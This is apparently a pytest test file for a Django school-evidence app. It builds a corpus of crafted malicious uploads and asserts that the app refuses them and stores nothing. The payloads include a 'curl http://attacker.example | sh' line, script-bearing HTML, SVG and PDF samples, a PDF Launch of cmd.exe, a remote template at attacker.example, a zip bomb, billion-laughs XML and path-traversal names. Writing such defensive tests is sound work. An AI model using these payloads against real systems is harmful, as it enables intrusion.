"""Uploads are checked by content before anything is stored.

A corpus of crafted bad files, each built here, is refused with a message that names the
file, and leaves no file under MEDIA_ROOT and no Evidence row, whether it arrives through
the service, the web form or the API. Minimal good files of every accepted type pass.
"""

import datetime
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django_scopes import scope, scopes_disabled
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter

from core.exceptions import ApplicationError
from core.uploads import DEFAULT_MAX_BYTES, clean_file_name, validate_upload
from reviews.models import Evidence
from reviews.services.evidence import evidence_record

pytestmark = pytest.mark.django_db


# Building blocks: minimal real files of each type.


def real_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def handmade_pdf(body: bytes) -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + body + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def png(width: int = 4, height: int = 3) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * min(width, 16) for _ in range(min(height, 16)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def jpeg(width: int = 8, height: int = 6) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "JPEG")
    return buffer.getvalue()


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header claims other dimensions (a pixel bomb: nothing is decoded)."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="{main}" ContentType="{main_type}"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="{target}"/></Relationships>'
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Learning walk: reading in Year 4.</w:t></w:r></w:p></w:body></w:document>"
)
HYPERLINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    'Target="https://www.gov.uk/government/organisations/ofsted" TargetMode="External"/></Relationships>'
)


def zip_of(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_parts(main_type: str = WORD_MAIN) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": CONTENT_TYPES.format(main="/word/document.xml", main_type=main_type),
        "_rels/.rels": ROOT_RELS.format(target="word/document.xml"),
        "word/document.xml": DOCUMENT,
        "word/_rels/document.xml.rels": HYPERLINK_RELS,
    }


def docx(extra: dict[str, bytes | str] | None = None) -> bytes:
    return zip_of({**docx_parts(), **(extra or {})})


def pptx() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(main="/ppt/presentation.xml", main_type=main),
            "_rels/.rels": ROOT_RELS.format(target="ppt/presentation.xml"),
            "ppt/presentation.xml": '<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/'
            'presentationml/2006/main"/>',
        }
    )


def xlsx(extra: dict[str, bytes | str] | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Year group", "Reading", "Writing", "Maths"])
    sheet.append(["Year 6", 0.74, 0.69, 0.77])
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not extra:
        return buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source:
        parts: dict[str, bytes | str] = {info.filename: source.read(info) for info in source.infolist()}
    return zip_of({**parts, **extra})


def zip_bomb_docx() -> bytes:
    # 8 MB of zeros compresses to a few kilobytes: a ratio far over 100.
    return docx({"word/media/padding.xml": b"\0" * (8 * 1024 * 1024)})


def many_parts_docx() -> bytes:
    return zip_of({**docx_parts(), **{f"word/media/image{i}.png": b"x" for i in range(2001)}})


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
EXTERNAL_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'externalLinkPath" Target="file:///\\\\finance-server\\budgets\\2025.xlsx" TargetMode="External"/>'
    "</Relationships>"
)
REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    "attachedTemplate' Target='http://attacker.example/template.dotm' TargetMode='External'/>"
    "</Relationships>"
)
UNC_LINK_RELS = HYPERLINK_RELS.replace("https://www.gov.uk/government/organisations/ofsted", "file://server/share/x")
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    "<w:document>&lol2;</w:document>"
)


def compressed_object_stream_with_javascript() -> bytes:
    hidden = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert('hi')) >>")
    return handmade_pdf(
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(hidden)
        + hidden
        + b"\nendstream\nendobj\n"
    )


@dataclass
class Bad:
    name: str
    content: Callable[[], bytes]
    reason: str  # a fragment of the message the service gives
    # Only the name is bad. Through a browser or the API, Django's upload parser has already cut
    # folders and non-printable characters from the name before our code sees it (see below).
    name_only: bool = False

    def __str__(self) -> str:
        return self.name.encode("unicode_escape").decode()[:40]


BAD_FILES = [
    Bad("invoice.pdf", lambda: EXE, "is a program or script"),
    Bad("timetable.pdf", lambda: ELF, "is a program or script"),
    Bad("install.pdf", lambda: b"#!/bin/sh\ncurl http://attacker.example | sh\n", "is a program or script"),
    Bad("report.pdf", lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script>", "web page (HTML)"),
    Bad("letter.pdf", lambda: b"\xef\xbb\xbf  <html><body onload=alert(1)>", "web page (HTML)"),
    Bad(
        "logo.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
        "SVG",
    ),
    Bad("chart.png", lambda: b'<?xml version="1.0"?><svg><circle r="4"/></svg>', "SVG"),
    Bad(
        "polyglot.pdf",
        lambda: handmade_pdf(b"")[:15] + b"<html><script>fetch('/t/')</script></html>\n" + handmade_pdf(b"")[15:],
        "also contains web page (HTML) or script",
    ),
    Bad(
        "open-action.pdf",
        lambda: handmade_pdf(b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj"),
        "JavaScript",
    ),
    Bad("hidden.pdf", lambda: handmade_pdf(b"3 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj"), "JavaScript"),
    Bad("packed.pdf", compressed_object_stream_with_javascript, "JavaScript"),
    Bad("launch.pdf", lambda: handmade_pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"), "starts a program"),
    Bad("cut-off.pdf", lambda: real_pdf()[:-40], "incomplete or damaged"),
    Bad("bomb.docx", zip_bomb_docx, "possible ZIP bomb"),
    Bad("thousands.docx", many_parts_docx, "more than 2,000 parts"),
    Bad("nested.docx", lambda: docx({"word/embeddings/inner.bin": zip_of({"a.txt": "hello"})}), "nested"),
    Bad("embedded.docx", lambda: docx({"word/embeddings/oleObject1.bin": OLE}), "nested"),
    Bad("budget.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "external links"),
    Bad("linked.xlsx", lambda: xlsx({"xl/_rels/workbook.xml.rels": EXTERNAL_WORKBOOK_RELS}), "outside the document"),
    Bad("template.docx", lambda: docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS}), "outside the document"),
    Bad("share.docx", lambda: docx({"word/_rels/document.xml.rels": UNC_LINK_RELS}), "outside the document"),
    Bad("macros.docx", lambda: docx({"word/vbaProject.bin": b"\x01\x02macro"}), "macros"),
    Bad(
        "docm.docx",
        lambda: zip_of(docx_parts("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "macros",
    ),
    Bad("laughs.docx", lambda: docx({"word/footnotes.xml": BILLION_LAUGHS}), "XML declarations"),
    Bad("archive.docx", lambda: zip_of({"notes.txt": "not a document"}), "ZIP archive, not a Word"),
    Bad("old.docx", lambda: OLE, "old-format"),
    Bad("notes.docx", lambda: b"Minutes of the governors' meeting, 4 March.\n", "is not a PDF, Word"),
    Bad("empty.pdf", lambda: b"", "is empty"),
    Bad("huge.png", lambda: png(50_000, 50_000), "50,000 x 50,000 pixels"),
    Bad("wide.jpg", lambda: jpeg_claiming(60_000, 400), "60,000 x 400 pixels"),
    Bad("photo.jpg", png, "its content is a PNG image but its name ends in .jpg"),
    Bad("photo.png", jpeg, "its content is a JPEG image but its name ends in .png"),
    Bad("slides.docx", pptx, "its content is a PowerPoint presentation (.pptx) but its name ends in .docx"),
    Bad("report", real_pdf, "has no file extension"),
    Bad("../../etc/passwd.pdf", lambda: b"root:x:0:0:root:/root:/bin/bash\n", "folder path"),
    Bad("..\\..\\windows\\win.ini.pdf", real_pdf, "folder path", name_only=True),
    Bad("invoice.pdf\x00.exe", lambda: EXE, "NUL character"),
    Bad("holiday\u202egnp.exe", lambda: EXE, "right-to-left"),
    Bad("zero\u200bwidth.pdf", real_pdf, "invisible characters", name_only=True),
    Bad("a" * 296 + ".pdf", real_pdf, "longer than 150 characters"),
]
GOOD_FILES = [
    ("Learning walk, Year 4.pdf", real_pdf, "pdf", "Learning walk_ Year 4.pdf"),
    ("Work scrutiny notes.docx", docx, "docx", "Work scrutiny notes.docx"),
    ("KS2 results.xlsx", xlsx, "xlsx", "KS2 results.xlsx"),
    ("Governors briefing.pptx", pptx, "pptx", "Governors briefing.pptx"),
    ("display-board.png", png, "png", "display-board.png"),
    ("pupil work.jpg", jpeg, "jpeg", "pupil work.jpg"),
    ("pupil work 2.JPEG", jpeg, "jpeg", "pupil work 2.jpeg"),
]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(root) -> int:
    return sum(len(files) for _, _, files in os.walk(root))


def evidence_rows() -> int:
    with scopes_disabled():
        return Evidence.objects.count()


@pytest.mark.parametrize("bad", BAD_FILES, ids=str)
def test_a_bad_file_is_refused_by_validation_with_a_message_naming_it(bad):
    with pytest.raises(ApplicationError) as refused:
        validate_upload(ContentFile(bad.content(), name=bad.name))
    message = refused.value.message
    assert bad.reason in message
    assert "was refused" in message
    # The file is named, with any hidden characters made visible, never passed through.
    shown = refused.value.extra["file"]
    assert shown and shown in message and "\x00" not in message and "\u202e" not in message


def test_the_corpus_covers_at_least_twenty_bad_files():
    assert len(BAD_FILES) >= 20


@pytest.mark.parametrize("bad", BAD_FILES, ids=str)
def test_the_service_stores_nothing_for_a_bad_file(bad, trust_a, media):
    before = (stored_files(media), evidence_rows())
    with scope(trust=trust_a.trust.pk), pytest.raises(ApplicationError, match="was refused"):
        evidence_record(
            school=trust_a.schools[0],
            actor=trust_a.people["improvement_lead"],
            evidence_type="work_scrutiny",
            observed_on=datetime.date(2025, 2, 3),
            summary="Scrutiny of Year 5 writing books.",
            upload=ContentFile(bad.content(), name=bad.name),
        )
    assert (stored_files(media), evidence_rows()) == before


BOUNDARY = "----TrustwideUploadTestBoundary"


def multipart(fields: dict[str, str], filename: str, content: bytes) -> bytes:
    """A multipart body built by hand, so the file name arrives exactly as crafted."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    parts.append(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def post_file(client, url: str, fields: dict[str, str], filename: str, content: bytes):
    body = multipart(fields, filename, content)
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={BOUNDARY}")


def form_fields(world) -> dict[str, str]:
    return {
        "school": str(world.schools[0].uuid),
        "evidence_type": "lesson_observation",
        "observed_on": "2025-01-20",
        "summary": "Year 3 maths lesson: fluency with number bonds.",
    }


BAD_CONTENT = [bad for bad in BAD_FILES if not bad.name_only]


@pytest.mark.parametrize("bad", BAD_CONTENT, ids=str)
def test_the_web_form_refuses_a_bad_file_and_stores_nothing(bad, trust_a, media):
    before = (stored_files(media), evidence_rows())
    client = trust_a.client_for("improvement_lead")
    response = post_file(client, "/t/alder/evidence/new/", form_fields(trust_a), bad.name, bad.content())
    assert response.status_code == 200
    page = response.content.decode()
    # Django's upload parser already drops folders and control characters from names; the
    # content checks still refuse each of these files, naming it.
    assert "was refused" in page
    assert (stored_files(media), evidence_rows()) == before


@pytest.mark.parametrize("bad", BAD_CONTENT, ids=str)
def test_the_api_refuses_a_bad_file_and_stores_nothing(bad, trust_a, media):
    before = (stored_files(media), evidence_rows())
    client = trust_a.client_for("specialist")
    response = post_file(client, "/api/v1/t/alder/evidence/", form_fields(trust_a), bad.name, bad.content())
    assert response.status_code == 400
    assert "was refused" in response.json()["message"]
    assert (stored_files(media), evidence_rows()) == before


@pytest.mark.parametrize(("name", "content", "detected", "clean"), GOOD_FILES, ids=[g[0] for g in GOOD_FILES])
def test_a_good_file_of_each_type_is_accepted(name, content, detected, clean):
    assert validate_upload(ContentFile(content(), name=name)) == (clean, detected)


def test_a_word_document_with_an_ordinary_web_link_is_accepted():
    # Hyperlinks to web pages are everyday content; only content fetched from outside is refused.
    assert validate_upload(ContentFile(docx(), name="links.docx"))[1] == "docx"


def test_a_file_exactly_at_the_limit_passes_and_one_byte_more_is_refused():
    limit = DEFAULT_MAX_BYTES
    assert limit == 20 * 1024 * 1024
    padding = b"%PDF-1.4\n", b"\n%%EOF\n"
    exact = padding[0] + b"0" * (limit - len(padding[0]) - len(padding[1])) + padding[1]
    assert validate_upload(SimpleUploadedFile("big.pdf", exact)) == ("big.pdf", "pdf")
    with pytest.raises(ApplicationError, match=r'"big.pdf" was refused: it is larger than the 20 MB limit'):
        validate_upload(SimpleUploadedFile("big.pdf", exact + b"0"))


def test_the_limit_comes_from_the_setting(settings):
    settings.EVIDENCE_MAX_BYTES = 1000
    small = handmade_pdf(b"")
    assert validate_upload(ContentFile(small, name="small.pdf"))[1] == "pdf"
    with pytest.raises(ApplicationError, match="larger than the 1,000 bytes limit"):
        validate_upload(ContentFile(small + b" " * (1001 - len(small)), name="small.pdf"))


def test_one_byte_over_the_limit_is_refused_through_the_form_and_api_and_nothing_is_stored(settings, trust_a, media):
    settings.EVIDENCE_MAX_BYTES = 2000
    content = handmade_pdf(b"")
    content += b" " * (2001 - len(content))
    before = (stored_files(media), evidence_rows())
    page = post_file(
        trust_a.client_for("executive"), "/t/alder/evidence/new/", form_fields(trust_a), "big.pdf", content
    )
    assert "larger than the 2,000 bytes limit" in page.content.decode()
    api = post_file(
        trust_a.client_for("executive"), "/api/v1/t/alder/evidence/", form_fields(trust_a), "big.pdf", content
    )
    assert api.status_code == 400 and "larger than" in api.json()["message"]
    assert (stored_files(media), evidence_rows()) == before


def test_the_clean_name_keeps_a_safe_basename():
    assert clean_file_name("Year 6 — reading (final).PDF") == "Year 6 _ reading _final_.pdf"
    assert clean_file_name("  ..hidden...pdf") == "hidden.pdf"
    assert clean_file_name("Évaluation Ofsted.docx") == "Évaluation Ofsted.docx"
    assert clean_file_name("report<script>.pdf") == "report_script_.pdf"


CRAFTED_NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
    ("zero\u200bwidth.pdf", "zerowidth.pdf"),
    ("report\x07.pdf", "report.pdf"),
]


@pytest.mark.parametrize("url", ["/t/alder/evidence/new/", "/api/v1/t/alder/evidence/"])
@pytest.mark.parametrize(("sent", "kept"), CRAFTED_NAMES, ids=[c[1] for c in CRAFTED_NAMES])
def test_through_a_browser_or_the_api_a_crafted_name_is_cut_to_a_safe_basename(url, sent, kept, trust_a, media):
    # Django's multipart parser removes folders and non-printable characters before any view
    # runs, so these arrive already harmless (the service refuses them outright, above); the
    # file is kept under our own UUID path, never under the name.
    response = post_file(trust_a.client_for("improvement_lead"), url, form_fields(trust_a), sent, real_pdf())
    assert response.status_code in (201, 302)
    with scopes_disabled():
        evidence = Evidence.objects.get()
    assert evidence.file_name == kept
    assert evidence.file.name == f"trusts/{trust_a.trust.code}/evidence/{evidence.uuid}.bin"
    assert stored_files(media) == 1


def test_a_good_file_of_each_type_is_stored_through_the_service(trust_a, media):
    with scope(trust=trust_a.trust.pk):
        for name, make, detected, _ in GOOD_FILES:
            content = make()  # once: an XLSX carries a timestamp
            evidence = evidence_record(
                school=trust_a.schools[0],
                actor=trust_a.people["executive"],
                evidence_type="data_analysis",
                observed_on=datetime.date(2025, 1, 6),
                summary=f"Analysis attached: {name}.",
                upload=ContentFile(content, name=name),
            )
            assert evidence.file_type == detected
            assert evidence.file_size == len(content)
            with evidence.file.open("rb") as stored:
                assert stored.read() == content
    assert stored_files(media) == len(GOOD_FILES)


def test_a_large_upload_spooled_to_a_temporary_file_is_checked_the_same_way(trust_a, media, settings):
    # Over FILE_UPLOAD_MAX_MEMORY_SIZE Django writes the upload to a temporary file (not MEDIA_ROOT).
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
    good = handmade_pdf(b"% padding " + b"0" * 5000)
    bad = zip_bomb_docx()
    client = trust_a.client_for("executive")
    refused = post_file(client, "/t/alder/evidence/new/", form_fields(trust_a), "bomb.docx", bad)
    assert "possible ZIP bomb" in refused.content.decode() and stored_files(media) == 0
    accepted = post_file(client, "/t/alder/evidence/new/", form_fields(trust_a), "large.pdf", good)
    assert accepted.status_code == 302 and stored_files(media) == 1
